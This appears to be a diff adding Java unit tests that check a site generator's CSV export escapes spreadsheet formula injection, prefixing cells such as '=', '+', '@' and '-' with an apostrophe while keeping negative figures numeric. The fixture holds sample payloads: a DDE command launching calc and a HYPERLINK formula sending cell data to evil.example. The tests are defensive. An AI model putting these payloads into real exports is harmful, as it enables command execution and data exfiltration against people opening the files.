@@ -113,4 +113,34 @@ class DataPagesTest {
                         + "missing [source]"),
                 TestSite.lines(site.build()));
     }
+
+    @Test
+    void csvCellsASpreadsheetWouldRunAsFormulasAreTextButNegativeFiguresStayNumbers()
+            throws Exception {
+        TestSite site = TestSite.in(temp).file("data/statistics/formulas.yaml", """
+                title: 表
+                source: 小组
+                updated: 2026-11-20
+                row_header: "+cmd|' /C calc'!A0"
+                columns: ["@SUM(1+1)", "-2", "第三季度"]
+                rows:
+                  - {label: '=HYPERLINK("http://evil.example/?"&A1,"点此")', values: [-3.5, -12, 4]}
+                  - {label: "-负责人", values: [1, ~, 0.5]}
+                """);
+        assertTrue(site.build().published());
+        String csv = Files.readString(site.output().resolve("data/formulas.csv"));
+        assertEquals("\uFEFF'+cmd|' /C calc'!A0,'@SUM(1+1),-2,第三季度\r\n"
+                + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\",-3.5,-12,4\r\n"
+                + "'-负责人,1,,0.5\r\n", csv);
+    }
+
+    @Test
+    void csvCellNeutralisesEveryFormulaStartOwaspNamesAndNothingElse() {
+        for (String formula : List.of("=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "-", "+")) {
+            assertEquals("'" + formula, CsvCell.neutralised(formula), formula);
+        }
+        for (String plain : List.of("", "-3.5", "-12", "+7", "12", "0.25", "甲=乙", "a-b", "'x")) {
+            assertEquals(plain, CsvCell.neutralised(plain), plain);
+        }
+    }
 }
